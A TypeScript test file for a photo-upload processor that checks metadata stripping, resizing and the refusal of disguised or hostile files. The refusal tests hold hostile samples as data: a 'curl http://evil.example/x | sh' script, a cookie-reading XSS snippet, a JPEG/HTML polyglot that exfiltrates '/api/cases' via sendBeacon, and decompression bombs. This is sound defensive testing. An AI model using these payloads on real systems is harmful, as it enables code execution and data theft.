import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { crc32, deflateSync, createDeflate } from 'node:zlib';
import sharp from 'sharp';
import { AppError } from '../../domain/errors.ts';
import { MAX_PHOTO_BYTES, PHOTO_LONG_SIDE, THUMBNAIL_LONG_SIDE, processPhoto } from './photo-processor.ts';
import { createHash } from 'node:crypto';

/**
 * test/fixtures/photo.heic (965 bytes) was made once with Debian's libheif-examples:
 * a 96×64 JPEG from sharp (left half rgb(220,30,30), right half rgb(30,30,220)) carrying EXIF
 * Make "TifliFixtureCam", Model "HeicSecretModel" and a GPS block with GPSMapDatum "TIFLI-GPS-SECRET",
 * then `heif-enc -q 70 -o photo.heic src.jpg` (x265), which copies the EXIF into the HEIC.
 */
const HEIC_FIXTURE = new URL('../../../test/fixtures/photo.heic', import.meta.url);

const SECRETS = ['SecretMakerCo', 'SecretModelX', 'TIFLI-GPS-SECRET', 'TIFLI-XMP-SECRET', 'TifliFixtureCam', 'HeicSecretModel'];

/** The AppError a rejected promise carries, for assertions on code and field. */
async function refusal(p: Promise<unknown>): Promise<AppError> {
  try {
    await p;
  } catch (err) {
    assert.ok(err instanceof AppError, `expected an AppError, got ${String(err)}`);
    return err;
  }
  assert.fail('expected the photo to be refused');
}

function assertRefused(err: AppError, code: string, messagePart: RegExp): void {
  assert.equal(err.code, code);
  assert.equal(err.errors.length, 1);
  assert.equal(err.errors[0]?.field, 'photo');
  assert.match(err.errors[0]?.message ?? '', messagePart);
}

async function pixelAt(jpeg: Buffer, x: number, y: number): Promise<[number, number, number]> {
  const { data, info } = await sharp(jpeg).raw().toBuffer({ resolveWithObject: true });
  const i = (y * info.width + x) * info.channels;
  return [data[i] ?? -1, data[i + 1] ?? -1, data[i + 2] ?? -1];
}

function assertColour(actual: [number, number, number], expected: [number, number, number], tolerance = 12): void {
  for (let c = 0; c < 3; c++) assert.ok(Math.abs(actual[c]! - expected[c]!) <= tolerance, `channel ${c}: got ${actual.join(',')}, expected about ${expected.join(',')}`);
}

/** Raw RGB pixels: left half one colour, right half another. */
function halves(width: number, height: number, left: [number, number, number], right: [number, number, number]): Buffer {
  const px = Buffer.alloc(width * height * 3);
  for (let y = 0; y < height; y++) for (let x = 0; x < width; x++) px.set(x < width / 2 ? left : right, (y * width + x) * 3);
  return px;
}

const RED: [number, number, number] = [220, 30, 30];
const BLUE: [number, number, number] = [30, 30, 220];

async function assertNoMetadata(jpeg: Buffer): Promise<void> {
  const meta = await sharp(jpeg).metadata();
  assert.equal(meta.format, 'jpeg');
  assert.equal(meta.exif, undefined, 'no EXIF');
  assert.equal(meta.icc, undefined, 'no ICC profile');
  assert.equal(meta.xmp, undefined, 'no XMP');
  assert.equal(meta.iptc, undefined, 'no IPTC');
  assert.equal(meta.orientation, undefined, 'no orientation tag');
  assert.equal(meta.comments, undefined, 'no comments');
  for (const marker of ['Exif', 'http://ns.adobe.com/xap', 'ICC_PROFILE', ...SECRETS]) assert.equal(jpeg.includes(marker), false, `output bytes contain "${marker}"`);
}

test('a JPEG with EXIF, GPS and XMP comes out as a fresh JPEG with no metadata at all', async () => {
  const xmp = '<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/" dc:creator="TIFLI-XMP-SECRET"/></rdf:RDF></x:xmpmeta><?xpacket end="w"?>';
  const input = await sharp(halves(320, 240, RED, BLUE), { raw: { width: 320, height: 240, channels: 3 } })
    .jpeg({ quality: 95 })
    .withExif({
      IFD0: { Make: 'SecretMakerCo', Model: 'SecretModelX' },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '33/1 35/1 0/1', GPSLongitudeRef: 'W', GPSLongitude: '7/1 36/1 0/1', GPSMapDatum: 'TIFLI-GPS-SECRET' },
    })
    .withXmp(xmp)
    .toBuffer();
  // The input really carries what we expect to be removed.
  const inMeta = await sharp(input).metadata();
  assert.ok(inMeta.exif && inMeta.xmp);
  for (const s of ['SecretMakerCo', 'TIFLI-GPS-SECRET', 'TIFLI-XMP-SECRET']) assert.ok(input.includes(s), `fixture carries ${s}`);

  const out = await processPhoto(input, { declaredType: 'image/jpeg' });
  assert.equal(out.sourceType, 'image/jpeg');
  assert.equal(out.width, 320);
  assert.equal(out.height, 240);
  await assertNoMetadata(out.jpeg);
  await assertNoMetadata(out.thumbnail);
  assertColour(await pixelAt(out.jpeg, 40, 120), RED);
  assertColour(await pixelAt(out.jpeg, 280, 120), BLUE);
  assert.equal(out.sha256, createHash('sha256').update(out.jpeg).digest('hex'));
});

test('a JPEG with EXIF orientation 6 comes out upright, width and height swapped', async () => {
  // Stored 300×200 with red on the left; orientation 6 means "rotate 90° clockwise to display",
  // so upright the picture is 200×300 with red on top.
  const input = await sharp(halves(300, 200, RED, BLUE), { raw: { width: 300, height: 200, channels: 3 } }).jpeg({ quality: 95 }).withMetadata({ orientation: 6 }).toBuffer();
  assert.equal((await sharp(input).metadata()).orientation, 6);
  const out = await processPhoto(input);
  assert.equal(out.width, 200);
  assert.equal(out.height, 300);
  const meta = await sharp(out.jpeg).metadata();
  assert.equal(meta.width, 200);
  assert.equal(meta.height, 300);
  assert.equal(meta.orientation, undefined);
  assertColour(await pixelAt(out.jpeg, 100, 60), RED);
  assertColour(await pixelAt(out.jpeg, 100, 240), BLUE);
});

test('a PNG with transparency is flattened on white', async () => {
  const rgba = Buffer.alloc(100 * 100 * 4);
  for (let y = 0; y < 100; y++) for (let x = 0; x < 100; x++) rgba.set(x < 50 ? [0, 0, 0, 0] : [200, 20, 20, 255], (y * 100 + x) * 4);
  const input = await sharp(rgba, { raw: { width: 100, height: 100, channels: 4 } }).png().toBuffer();
  const out = await processPhoto(input, { declaredType: 'image/png' });
  assert.equal(out.sourceType, 'image/png');
  const meta = await sharp(out.jpeg).metadata();
  assert.equal(meta.format, 'jpeg');
  assert.equal(meta.hasAlpha, false);
  assertColour(await pixelAt(out.jpeg, 10, 50), [255, 255, 255], 4);
  assertColour(await pixelAt(out.jpeg, 90, 50), [200, 20, 20]);
});

test('a 16-bit greyscale PNG and a WebP are accepted and re-encoded as 8-bit sRGB JPEG', async () => {
  const grey = await sharp({ create: { width: 64, height: 48, channels: 3, background: { r: 128, g: 128, b: 128 } } }).greyscale().png({ force: true }).toColourspace('grey16').toBuffer();
  assert.equal((await sharp(grey).metadata()).depth, 'ushort');
  const g = await processPhoto(grey);
  assert.equal((await sharp(g.jpeg).metadata()).channels, 3);
  assertColour(await pixelAt(g.jpeg, 30, 20), [128, 128, 128], 6);

  const webp = await sharp(halves(120, 80, RED, BLUE), { raw: { width: 120, height: 80, channels: 3 } }).webp({ quality: 90 }).toBuffer();
  const w = await processPhoto(webp, { declaredType: 'image/webp' });
  assert.equal(w.sourceType, 'image/webp');
  assert.deepEqual([w.width, w.height], [120, 80]);
  await assertNoMetadata(w.jpeg);
  assertColour(await pixelAt(w.jpeg, 10, 40), RED);
});

test('colours from an embedded ICC profile are converted to sRGB and the profile is dropped', async () => {
  // sharp converts our sRGB colour into Display P3 values on the way out and tags the file P3.
  const input = await sharp({ create: { width: 16, height: 16, channels: 3, background: { r: 200, g: 100, b: 50 } } }).png().withIccProfile('p3').toBuffer();
  const taggedValues = await sharp(input, { ignoreIcc: true }).raw().toBuffer();
  assert.ok(Math.abs(taggedValues[0]! - 200) > 6, 'stored values differ from the sRGB colour');
  const out = await processPhoto(input);
  assert.equal((await sharp(out.jpeg).metadata()).icc, undefined);
  assertColour(await pixelAt(out.jpeg, 8, 8), [200, 100, 50], 4);
});

test('large photos are capped at 2048 px on the long side, thumbnails at 480 px', async () => {
  const input = await sharp({ create: { width: 3000, height: 1000, channels: 3, background: { r: 10, g: 120, b: 60 } } }).jpeg().toBuffer();
  const out = await processPhoto(input);
  assert.equal(out.width, PHOTO_LONG_SIDE);
  assert.equal(out.height, 683);
  const full = await sharp(out.jpeg).metadata();
  assert.deepEqual([full.width, full.height], [2048, 683]);
  const thumb = await sharp(out.thumbnail).metadata();
  assert.deepEqual([thumb.width, thumb.height], [THUMBNAIL_LONG_SIDE, 160]);
  assert.ok(out.thumbnail.length < out.jpeg.length);
});

test('small photos are not enlarged; the thumbnail is then the same size', async () => {
  const input = await sharp({ create: { width: 300, height: 400, channels: 3, background: { r: 10, g: 120, b: 60 } } }).png().toBuffer();
  const out = await processPhoto(input);
  assert.deepEqual([out.width, out.height], [300, 400]);
  const thumb = await sharp(out.thumbnail).metadata();
  assert.deepEqual([thumb.width, thumb.height], [300, 400]);
});

test('HEIC is decoded (colours, size) and loses its EXIF and GPS', async () => {
  const input = await readFile(HEIC_FIXTURE);
  for (const s of ['TifliFixtureCam', 'TIFLI-GPS-SECRET']) assert.ok(input.includes(s), `fixture carries ${s}`);
  const out = await processPhoto(input, { declaredType: 'image/heic' });
  assert.equal(out.sourceType, 'image/heic');
  assert.deepEqual([out.width, out.height], [96, 64]);
  await assertNoMetadata(out.jpeg);
  await assertNoMetadata(out.thumbnail);
  assertColour(await pixelAt(out.jpeg, 10, 32), RED, 16);
  assertColour(await pixelAt(out.jpeg, 86, 32), BLUE, 16);
});

test('a damaged HEIC is refused cleanly', async () => {
  const input = await readFile(HEIC_FIXTURE);
  // Keep the container header, cut the coded image data.
  const err = await refusal(processPhoto(input.subarray(0, Math.floor(input.length * 0.5))));
  assertRefused(err, 'validation_failed', /HEIC photo could not be decoded/);
});

test('a HEIC whose header declares 30000×30000 is refused before its pixels are decoded', async () => {
  const input = Buffer.from(await readFile(HEIC_FIXTURE));
  const at = input.indexOf('ispe');
  assert.ok(at > 0);
  input.writeUInt32BE(30_000, at + 8);
  input.writeUInt32BE(30_000, at + 12);
  const err = await refusal(processPhoto(input));
  assertRefused(err, 'validation_failed', /too large \(at most 40 megapixels\)/);
});

test('a file over 15 MB is refused before any decoding', async () => {
  // JPEG magic followed by garbage: decoding would fail differently, so the code proves the order.
  const big = Buffer.alloc(MAX_PHOTO_BYTES + 1, 0x41);
  big.set([0xff, 0xd8, 0xff, 0xe0]);
  const err = await refusal(processPhoto(big));
  assertRefused(err, 'payload_too_large', /larger than 15 MB/);
  assert.equal(err.status, 413);
});

test('scripts, HTML, SVG, GIF and PDF are refused whatever their name or declared type', async () => {
  const disguised: [string, Buffer, string | undefined][] = [
    ['shell script named .jpg', Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n'), 'image/jpeg'],
    ['HTML named .jpg', Buffer.from('<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>'), 'image/jpeg'],
    ['SVG', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script></svg>'), 'image/svg+xml'],
    ['SVG declared as PNG', Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>'), 'image/png'],
    ['GIF', await sharp({ create: { width: 8, height: 8, channels: 3, background: '#f00' } }).gif().toBuffer(), 'image/gif'],
    ['PDF', Buffer.from('%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n'), undefined],
    ['AVIF', await sharp({ create: { width: 8, height: 8, channels: 3, background: '#f00' } }).avif().toBuffer(), 'image/avif'],
  ];
  for (const [what, bytes, declaredType] of disguised) {
    const err = await refusal(processPhoto(bytes, declaredType === undefined ? {} : { declaredType }));
    assertRefused(err, 'unsupported_media_type', /not a JPEG, PNG, WebP or HEIC photo/);
    assert.equal(err.status, 415, what);
  }
});

test('a real photo declared as a non-image type is refused', async () => {
  const jpeg = await sharp({ create: { width: 8, height: 8, channels: 3, background: '#f00' } }).jpeg().toBuffer();
  const err = await refusal(processPhoto(jpeg, { declaredType: 'text/html; charset=utf-8' }));
  assertRefused(err, 'unsupported_media_type', /something other than an image/);
  // A generic binary declaration is fine: the bytes decide.
  assert.equal((await processPhoto(jpeg, { declaredType: 'application/octet-stream' })).sourceType, 'image/jpeg');
});

test('a JPEG that is also an HTML page (polyglot) is refused', async () => {
  const jpeg = await sharp({ create: { width: 32, height: 32, channels: 3, background: '#0a0' } }).jpeg().toBuffer();
  const payload = Buffer.from('<html><script>fetch("/api/cases").then(r=>r.text()).then(t=>navigator.sendBeacon("//x",t))</script></html>');
  const comment = Buffer.alloc(4);
  comment.set([0xff, 0xfe]);
  comment.writeUInt16BE(payload.length + 2, 2);
  const polyglot = Buffer.concat([jpeg.subarray(0, 2), comment, payload, jpeg.subarray(2)]);
  // Still a valid JPEG: the refusal is about the payload, not damage.
  assert.equal((await sharp(polyglot).metadata()).width, 32);
  const err = await refusal(processPhoto(polyglot));
  assertRefused(err, 'validation_failed', /embedded markup or script/);
});

test('a truncated JPEG is refused cleanly', async () => {
  const jpeg = await sharp({ create: { width: 800, height: 600, channels: 3, background: '#808080', noise: { type: 'gaussian', mean: 128, sigma: 30 } } }).jpeg().toBuffer();
  const err = await refusal(processPhoto(jpeg.subarray(0, Math.floor(jpeg.length * 0.6))));
  assertRefused(err, 'validation_failed', /damaged or incomplete/);
  const headerOnly = await refusal(processPhoto(jpeg.subarray(0, 40)));
  assertRefused(headerOnly, 'validation_failed', /damaged or incomplete/);
});

test('an empty upload is refused', async () => {
  assertRefused(await refusal(processPhoto(Buffer.alloc(0))), 'validation_failed', /empty/);
});

function pngChunk(type: string, data: Buffer): Buffer {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(data.length, 0);
  head.write(type, 4, 'latin1');
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(Buffer.concat([head.subarray(4), data])), 0);
  return Buffer.concat([head, data, crc]);
}

function pngWith(width: number, height: number, idat: Buffer): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr.set([8, 0, 0, 0, 0], 8); // 8-bit greyscale, deflate, no filter, no interlace
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), pngChunk('IHDR', ihdr), pngChunk('IDAT', idat), pngChunk('IEND', Buffer.alloc(0))]);
}

/** A complete, valid greyscale PNG of zeros, deflated row by row so the test never holds it inflated. */
async function zeroPng(width: number, height: number): Promise<Buffer> {
  const deflate = createDeflate({ level: 9 });
  const parts: Buffer[] = [];
  deflate.on('data', (c: Buffer) => parts.push(c));
  const done = new Promise<void>((resolve, reject) => {
    deflate.on('end', resolve);
    deflate.on('error', reject);
  });
  const row = Buffer.alloc(width + 1); // filter byte + pixels
  for (let y = 0; y < height; y++) {
    if (!deflate.write(row)) await new Promise<void>((resolve) => deflate.once('drain', () => resolve()));
  }
  deflate.end();
  await done;
  return pngWith(width, height, Buffer.concat(parts));
}

test('decompression bombs are refused from their declared size, without allocating their pixels', async () => {
  const before = process.memoryUsage().rss;
  // A tiny PNG whose header claims 30000×30000 (900 megapixels).
  const claimed = pngWith(30_000, 30_000, deflateSync(Buffer.alloc(64)));
  assert.ok(claimed.length < 200);
  assertRefused(await refusal(processPhoto(claimed)), 'validation_failed', /too large \(at most 40 megapixels\)/);

  // A complete, valid 10000×10000 PNG (100 megapixels) that compresses to about 100 KB.
  const real = await zeroPng(10_000, 10_000);
  assert.ok(real.length < 500_000, `bomb is ${real.length} bytes`);
  assert.equal((await sharp(real).metadata()).width, 10_000);
  assertRefused(await refusal(processPhoto(real)), 'validation_failed', /too large/);
  const grown = process.memoryUsage().rss - before;
  assert.ok(grown < 300 * 1024 * 1024, `memory grew by ${Math.round(grown / 1024 / 1024)} MB`);
});
